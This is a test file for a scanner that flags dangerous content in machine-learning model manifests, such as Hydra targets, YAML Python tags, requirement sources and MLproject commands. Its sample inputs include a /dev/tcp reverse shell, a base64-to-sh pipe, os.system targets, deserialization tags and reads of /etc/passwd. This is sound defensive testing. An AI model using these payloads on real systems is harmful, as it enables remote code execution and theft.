import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { MemorySource } from '../../../src/bytes/memory-source.js';
import { FileBudget } from '../../../src/engine/file-budget.js';
import { inspect } from '../../../src/engine/inspection/inspect.js';
import { formats } from '../../../src/formats/index.js';
import { sampleSecrets } from '../../judgement/text/sample-secrets.js';
import { inspectBytes } from '../../support/inspect-bytes.js';
import { fixtures } from '../../../fixtures/manifest/make.js';

const told = async (text: string, name: string): Promise<readonly string[]> =>
  (await inspectBytes(Buffer.from(text), name)).told;
const grave = (lines: readonly string[]): readonly string[] =>
  lines.filter((line) => !line.startsWith('info'));

describe('what a manifest has a loader do', () => {
  it.each([
    ['_target_: os.system', 'critical'],
    ['_target_: subprocess.Popen', 'critical'],
    ['_target_: builtins.eval', 'critical'],
    ['_target_: eval', 'critical'],
    ['_target_: joblib.load', 'critical'],
    ['_target_: torch.load', 'critical'],
    ['_target_: numpy.load', 'critical'],
    ['_target_: pandas.read_pickle', 'critical'],
    ['_target_: runpy.run_path', 'critical'],
    ['_target_: posix:system', 'critical'],
    ['_target_: torch.utils.collect_env.run', 'critical'],
    ['class_path: webbrowser.open', 'critical'],
    ['_target_: torch.serialization.os.system', 'critical'],
    ['_target_: my_project.subprocess.Popen', 'critical'],
    ['_target_: my_project.sys.models.Net', undefined],
    ['_target_: my_project.os.path.join', undefined],
    ['py/reduce: [{py/function: os.system}]', 'critical'],
    ['loader_module: os', undefined],
    ['{_target_: hydra.utils.get_method, path: os.system}', 'critical'],
    ['{class_path: x.Y, callback: {module: os, function: system}}', 'critical'],
    ['{class_path: x.Y, module: builtins, class_name: function}', undefined],
    ['_target_: torch.nn.Linear', undefined],
    ['_target_: my_project.models.Net', undefined],
    ['_target_: transformers.AutoModel.from_pretrained', undefined],
    ['_target_: torchvision.datasets.CIFAR10', undefined],
    ['{_target_: hydra.utils.get_method, path: torch.nn.functional.relu}', undefined],
    ['{_target_: functools.partial, _args_: [torch.optim.Adam]}', undefined],
    ['{_target_: x.Y, class: logging.FileHandler}', undefined],
  ])('%s', async (line, severity) => {
    const findings = grave(await told(`a:\n  ${line.startsWith('{') ? '- ' : ''}${line}\n`, 'config.yaml'));
    expect(findings).toEqual(severity === undefined ? [] : [`${severity} manifest/dangerous-target`]);
  });

  it.each([
    ['!!python/object/apply:os.system [x]', 'critical'],
    ['!!python/object/apply:subprocess.Popen [[x]]', 'critical'],
    ['!!python/object/new:type [a, [], {}]', 'critical'],
    ['!!python/name:exec', 'critical'],
    ['!!python/module:os', 'critical'],
    ['!!python/object/apply:%6Fs.system [x]', 'critical'],
    ['!!javax.script.ScriptEngineManager []', 'critical'],
    ['!!javax.sound.sampled.AudioFormat []', 'warning'],
    ['!ruby/object:Gem::Installer {}', 'warning'],
    ['!!python/object:my_project.Args {}', undefined],
    ['!!python/tuple [1, 2]', undefined],
    ['!!python/unicode x', undefined],
    ['!!python/object/apply:collections.OrderedDict [[]]', undefined],
    ['!!python/object/apply:pathlib.PosixPath [a]', undefined],
  ])('the tag of %s', async (value, severity) => {
    const findings = new Set(grave(await told(`hp: ${value}\n`, 'hparams.yaml')));
    expect([...findings]).toEqual(severity === undefined ? [] : [`${severity} manifest/python-tag`]);
  });

  it.each([
    ['"_attn_implementation_internal": "evil/kernel"', 'critical manifest/hub-kernel'],
    [
      '"vision_config": {"attn_implementation": {"": "evil/kernel@main:run"}}',
      'critical manifest/hub-kernel',
    ],
    ['"_attn_implementation": "paged|sdpa"', undefined],
    ['"_experts_implementation": "eager"', undefined],
    ['"kernel_config": {"RMSNorm": {"cuda": "evil/kernel:Norm"}}', 'warning manifest/hub-kernel'],
    [
      '"kernel_config": {"kernel_mapping": {"RMSNorm": {"cuda": "evil/kernel"}}}',
      'warning manifest/hub-kernel',
    ],
    ['"kernel_mapping": {"RMSNorm": [{"repo_id": "evil/kernel"}]}', 'warning manifest/hub-kernel'],
    ['"kernel_config": {"dtype": "fp16/bf16", "path": "kernels/matmul.cu"}', undefined],
    ['"kernel_config": {"kernel_mapping": {"Matmul": "kernels/matmul.cu"}}', undefined],
    ['"kernel_config": {"type": "RBF", "lengthscale_prior": "Gamma/LogNormal"}', undefined],
    ['"chat_template": [{"name": "a/../../b", "template": "x"}]', 'critical manifest/template-file-name'],
    ['"chat_template": {"..": "x"}', 'critical manifest/template-file-name'],
    ['"chat_template": [{"name": "rag", "template": "x"}]', undefined],
    ['"auto_map": {"AutoModel": "evil/code--modeling.Net"}', 'warning manifest/remote-code'],
    ['"auto_map": {"AutoTokenizer": ["tokenization.Slow", null]}', undefined],
    ['"custom_pipelines": {"x": {"impl": "evil/code--pipeline.P"}}', 'warning manifest/remote-code'],
    ['"\\u005ftarget_": "os.system"', 'critical manifest/dangerous-target'],
    ['"_target_": "torch.nn.Linear", "_target_": "os.system"', 'critical manifest/dangerous-target'],
  ])('the configuration {%s}', async (member, finding) => {
    expect(grave(await told(`{${member}}`, 'config.json'))).toEqual(finding === undefined ? [] : [finding]);
  });

  it.each([
    ['-r https://example.invalid/list.txt', 'warning'],
    ['-i \\\n  https://example.invalid/simple', 'warning'],
    ['-f //example.invalid/share', 'warning'],
    ['--index-url https://example.invalid/simple', 'warning'],
    ['--extra-index-url=http://download.pytorch.org/whl', 'warning'],
    ['torch --index-url https://example.invalid/simple', 'warning'],
    ['-f https://example.invalid/wheels', 'warning'],
    ['-i https://${HOST}/simple', 'warning'],
    ['-i https://${TOKEN}@${HOST}/simple', 'warning'],
    ['-i https://${TOKEN}@pypi.org/simple', undefined],
    ['-i https://name:${TOKEN}@pypi.org/simple', undefined],
    ['--trusted-host *', 'warning'],
    ['git+http://example.invalid/x.git', 'warning'],
    ['git+https://example.invalid/x.git', 'warning'],
    ['https://example.invalid/x.whl', 'warning'],
    ['-e git+https://example.invalid/x.git#egg=x', 'warning'],
    ['colourama==1.0', 'warning'],
    ['--extra-index-url https://download.pytorch.org/whl/cu118', undefined],
    ['--find-links https://github.com/mypyc/mypy_mypyc-wheels/releases/expanded_assets/v1.12.0', undefined],
    ['--find-links https://host.example.invalid/wheels', 'warning'],
    ['git+https://github.com/openai/CLIP.git@main', undefined],
    ['clip @ git+https://github.com/openai/CLIP.git', undefined],
    [
      'https://github.com/explosion/spacy-models/releases/download/en_core_web_sm-3.7.1/en_core_web_sm-3.7.1-py3-none-any.whl',
      undefined,
    ],
    ['torch==2.1.0+cu118 ; python_version > "3.8" --hash=sha256:00', undefined],
    ['-r base.txt # git+http://example.invalid', undefined],
    ['-e .', undefined],
  ])('the requirement %s', async (line, severity) => {
    const findings = grave(await told(`numpy\n${line}\n`, 'requirements.txt'));
    expect(findings).toEqual(severity === undefined ? [] : [`${severity} manifest/package-source`]);
  });

  it('judges the pip part of a conda environment', async () => {
    const text =
      'dependencies:\n  - python=3.10\n  - pip:\n    - --index-url http://example.invalid/\n    - torch\n';
    expect(grave(await told(text, 'conda.yaml'))).toEqual(['warning manifest/package-source']);
  });

  it.each([
    ['entry_points:\n  main:\n    command: "bash -i >& /dev/tcp/example.invalid/1 0>&1"', 'critical'],
    ['stages:\n  a:\n    cmd:\n      - echo aGk= | base64 -d | sh', 'critical'],
    ['entry_points:\n  main:\n    command: "python train.py --lr {lr}"', undefined],
    ['stages:\n  a:\n    cmd: wget https://example.invalid/data.tgz', undefined],
  ])('the command of %j', async (text, severity) => {
    const findings = grave(await told(text, 'MLproject'));
    expect(findings).toEqual(severity === undefined ? [] : [`${severity} manifest/shell-command`]);
  });

  it.each([
    ['flavors:\n  sklearn:\n    pickled_model: ../../secret.pkl', 'critical'],
    ['flavors:\n  python_function:\n    data: file:///etc/passwd', 'critical'],
    ['flavors:\n  python_function:\n    data: \\\\example.invalid\\share', 'critical'],
    ['flavors:\n  sklearn:\n    pickled_model: model.pkl', undefined],
  ])('the path of %j', async (text, severity) => {
    const findings = grave(await told(text, 'MLmodel'));
    expect(findings).toEqual(severity === undefined ? [] : [`${severity} manifest/outside-path`]);
  });

  it('masks the credentials that it finds', async () => {
    const [, credential] = sampleSecrets['huggingface-token'] ?? ['', ''];
    const { told: findings, drafts } = await inspectBytes(
      Buffer.from(
        JSON.stringify({
          auto_map: {},
          hub: { token: credential },
          _target_: `os.system`,
          command: credential,
        }),
      ),
      'config.json',
    );
    expect([...findings].sort()).toEqual([
      'critical manifest/dangerous-target',
      'warning manifest/secret',
      'warning manifest/secret',
    ]);
    expect(JSON.stringify(drafts)).not.toContain(credential.slice(8));
  });

  it('tells line and column', async () => {
    const { drafts } = await inspectBytes(
      Buffer.from('a: 1\nmodel:\n  _target_: os.system\n'),
      'config.yaml',
    );
    expect(drafts[0]?.at).toEqual({ line: 3, column: 13, logical: 'model._target_' });
  });

  it('leaves files alone that are no part of a model', async () => {
    for (const [text, name] of [
      ['{"name": "x", "scripts": {"test": "curl x | sh"}}', 'package.json'],
      ['on: push\njobs: {a: {run: "curl x | sh"}}', 'check.yml'],
      ['plain words', 'notes.txt'],
    ] as const)
      expect(await inspectBytes(Buffer.from(text), name)).toMatchObject({
        formats: [],
        outcome: 'unrecognised',
        told: [],
      });
  });

  const withFiles = async (
    name: string,
    manifest: unknown,
    files: Readonly<Record<string, string>>,
  ): Promise<string[]> => {
    const found: string[] = [];
    await inspect(new MemorySource(Buffer.from(JSON.stringify(manifest)), name), {
      formats,
      budget: new FileBudget(),
      name,
      sibling: (path) => {
        const text = files[path];
        return text === undefined ? undefined : new MemorySource(Buffer.from(text), path);
      },
      report: (member, { severity }) => {
        if (severity !== 'info') found.push(`${severity} ${member.join('!')}`);
      },
    });
    return found;
  };
  const attack = 'import os\nos.system("echo pwned")\n';

  it.each([
    ['config.json', { auto_map: { AutoModel: 'odd_name.Net' } }, 'odd_name.py'],
    ['config.json', { auto_map: { AutoModel: 'sub.odd_name.Net' } }, 'sub/odd_name.py'],
    ['tokenizer_config.json', { auto_map: { AutoTokenizer: [null, 'odd_name.Fast'] } }, 'odd_name.py'],
    ['config.json', { custom_pipelines: { x: { impl: 'odd_name.P' } } }, 'odd_name.py'],
    ['model_index.json', { unet: ['odd_name', 'Unet'] }, 'unet/odd_name.py'],
    ['model_index.json', { _class_name: ['odd_name', 'Pipeline'] }, 'odd_name.py'],
    ['modules.json', [{ idx: 0, path: '', type: 'odd_name.Pool' }], 'odd_name.py'],
    ['hparams.json', { model: { _target_: 'odd_name.Net' } }, 'odd_name.py'],
    ['hparams.json', { model: { _target_: 'odd_name:build' } }, 'odd_name.py'],
    ['config.json', { auto_map: { AutoModel: 'odd_name.Net' } }, 'odd_name/__init__.py'],
  ])('in %s %j has %s judged', async (name, manifest, file) => {
    expect(await withFiles(name, manifest, { [file]: attack })).toEqual([`critical ${file}`]);
  });

  it('has judged what the named file imports, and that in turn', async () => {
    const manifest = { auto_map: { AutoModel: 'odd_name.Net' } };
    const files = {
      'odd_name.py': 'from .first import x\nclass Net: ...\n',
      'first.py': 'from . import second\nx = 1\n',
      'second.py': attack,
      'other.py': attack,
    };
    expect(await withFiles('config.json', manifest, files)).toEqual(['critical second.py']);
  });

  it('has the named class judged as built by the loader', async () => {
    const source = 'import os\nclass Net:\n  def __init__(self):\n    os.system("echo pwned")\n';
    const found = await withFiles(
      'config.json',
      { auto_map: { AutoModel: 'odd_name.Net' } },
      { 'odd_name.py': source },
    );
    expect(found).toEqual(['critical odd_name.py']);
  });

  it('takes no file for a module of another repository or of a library', async () => {
    const files = { 'modeling.py': attack, 'torch.py': attack };
    const manifest = { auto_map: { AutoModel: 'owner/name--modeling.Net' }, _target_: 'torch.nn.Linear' };
    expect(await withFiles('config.json', manifest, files)).toEqual(['warning ']);
  });
});

describe('addresses in a manifest', () => {
  it.each([
    ['download_url', 'http://192.88.99.7/x.bin', 'warning manifest/address'],
    ['model.urls.0', 'https://abcd.ngrok.io/x', 'warning manifest/address'],
    ['webhook', 'https://webhook.site/abc', 'warning manifest/address'],
    ['callback_url', 'https://example.invalid:4444/x', 'info manifest/address'],
    ['url', 'http://0x7f.0x1/x', 'warning manifest/address'],
    ['endpoint', 'http://169.254.169.254/latest/meta-data', 'warning manifest/address'],
    ['description', 'see http://192.88.99.7/x', 'info manifest/address'],
    ['tracking_uri', 'http://10.0.0.5:5000', undefined],
    ['homepage', 'https://example.invalid/hacker/q', undefined],
    ['url', 'https://huggingface.co/org/model/resolve/main/model.bin', undefined],
    ['url', 'https://storage.googleapis.com/x/y.tar.gz', undefined],
    ['host', 'http://localhost:8000', undefined],
  ])('%s: %s', async (key, value, finding) => {
    const lines = (await told(JSON.stringify({ [key]: value }), 'config.json')).filter((line) =>
      line.endsWith('manifest/address'),
    );
    expect(lines).toEqual(finding === undefined ? [] : [finding]);
  });
});

describe('names in a manifest', () => {
  it.each([
    ['_name_or_path', 'met\u0430-llama/Llama-3.1-8B', 'warning manifest/look-alike-name'],
    ['base_model', 'open\u200bai/whisper', 'warning manifest/look-alike-name'],
    ['base_model_name_or_path', 'mistralia/Mistral-7B', 'info manifest/look-alike-name'],
    ['repo_id', 'rnicrosoft/phi-3', 'info manifest/look-alike-name'],
    ['_name_or_path', 'meta-llama/Llama-3.1-8B', undefined],
    ['title', 'met\u0430-llama', undefined],
  ])('%s: %j', async (key, name, finding) => {
    expect(await told(JSON.stringify({ [key]: name }), 'config.json')).toEqual(
      finding === undefined ? [] : [finding],
    );
  });

  it('of files and members are judged where they are models', async () => {
    const json = JSON.stringify({ model_type: 'x' });
    expect(await told(json, 'config.json')).toEqual([]);
    expect(await told('[]', 'm\u0430p.index.json')).toEqual([]);
    expect((await inspectBytes(Buffer.of(0x80, 4, 0x4e, 0x2e), 'mod\u0435l.pkl')).told).toEqual([
      'warning scan/deceptive-name',
    ]);
    expect(await told('just prose', 'notes\u202etxt.md')).toEqual([]);
  });
});

describe('damaged manifests', () => {
  it('end in a finding or are read', async () => {
    const cases = Object.entries(fixtures);
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...cases),
        fc.nat(),
        fc.integer({ min: 0, max: 255 }),
        fc.boolean(),
        async ([name, bytes], at, byte, cut) => {
          const mutated = Buffer.from(bytes);
          if (cut) mutated.fill(byte, at % mutated.length);
          else mutated[at % mutated.length] = byte;
          const { outcome, told: findings } = await inspectBytes(
            mutated.subarray(0, cut ? at % mutated.length : undefined),
            name,
          );
          if (outcome === 'partial') expect(findings).not.toEqual([]);
        },
      ),
      { numRuns: 600 },
    );
  });
});

describe('a target that refers to other values', () => {
  const yaml = (...lines: readonly string[]): string => `${lines.join('\n')}\n`;

  it.each([
    ['by a path', yaml('m: os', 'a: {_target_: "${m}.system", command: x}')],
    ['by a path in parts', yaml('p: {q: os}', 'a:', '  - _target_: ${p.q}.${fn}', 'fn: system')],
    ['by a relative path', yaml('a:', '  b:', '    m: os', '    c: {_target_: "${..m}.system"}')],
    ['through another reference', yaml('m: os', 'k: ${m}', 'key: k', 'a: {_target_: "${${key}}.system"}')],
    ['of its environment, with a default', yaml('a: {_target_: "${oc.env:NAME,os.system}"}')],
    ['by oc.select', yaml('m: os.system', 'a: {_target_: "${oc.select:m,x.Y}"}')],
    ['in two keys', yaml('m: os', 'a: {class_path: x.Y, b: {module: "${m}", function: system}}')],
    ['under a key of any loader', yaml('m: os', 'a: {_target_: x.Y, callable: "${m}.system"}')],
  ])('%s is what it comes to', async (_, text) => {
    expect(grave(await told(text, 'config.yaml'))).toEqual(['critical manifest/dangerous-target']);
  });

  it('as configparser has it, is what it comes to', async () => {
    const plain = yaml('[DEFAULT]', 'lib = os', '[model]', 'fn = system', '_target_ = %(lib)s.%(fn)s');
    const extended = yaml('[a]', 'lib = os', '[model]', '_target_ = ${a:lib}.system');
    for (const text of [plain, extended])
      expect(grave(await told(text, 'config.ini'))).toEqual(['critical manifest/dangerous-target']);
  });

  it('that are not there is said', async () => {
    expect(await told(yaml('a: {_target_: "${other.name}"}'), 'config.yaml')).toEqual([
      'info manifest/dangerous-target',
    ]);
    expect(await told(yaml('a: {_target_: "os.${other}"}'), 'config.yaml')).toEqual([
      'warning manifest/dangerous-target',
    ]);
  });

  it('that come to something usual says nothing', async () => {
    expect(await told(yaml('lib: torch.nn', 'a: {_target_: "${lib}.Linear"}'), 'config.yaml')).toEqual([]);
  });

  it('in a circle ends', async () => {
    const circle = yaml('m: ${n}', 'n: ${m}${m}', 'a: {_target_: "${m}.system"}');
    expect(await told(circle, 'config.yaml')).toEqual(['info manifest/dangerous-target']);
  });
});

describe('what stands behind a JSON document', () => {
  const first = JSON.stringify({ model_type: 'bert', auto_map: {} });

  it('is read as another one', async () => {
    const text = `${first}\n${JSON.stringify({ a: { _target_: 'os.system' } })}\n`;
    expect(grave(await told(text, 'config.json'))).toEqual(['critical manifest/dangerous-target']);
  });

  it('may be lines of values', async () => {
    expect(await told(`${first}\n`.repeat(1000), 'config.json')).toEqual([]);
  });

  it('and is none is damage', async () => {
    expect(await told(`${first} trailing`, 'config.json')).toEqual(['warning scan/damaged']);
  });
});

describe('what a manifest leads to', () => {
  it.each([
    ['-r ../../etc/passwd', 'warning manifest/package-source'],
    ['-r /etc/shadow', 'warning manifest/package-source'],
    ['--constraint=~/.netrc', 'warning manifest/package-source'],
    ['-r ../requirements.txt', 'info manifest/package-source'],
  ])('%s in a list of requirements', async (line, finding) => {
    expect(await told(`torch\n${line}\n`, 'requirements.txt')).toEqual([finding]);
  });

  it('a list beside it is usual', async () => {
    expect(await told('torch\n-r base.txt\n-r requirements/dev.txt\n', 'requirements.txt')).toEqual([]);
  });

  it('a module of MLflow says nothing, another one is told', async () => {
    const model = (name: string): string => `flavors:\n  python_function:\n    loader_module: ${name}\n`;
    expect(await told(model('mlflow.sklearn'), 'MLmodel')).toEqual([]);
    expect(await told(model('my_loader'), 'MLmodel')).toEqual(['info manifest/remote-code']);
  });
});
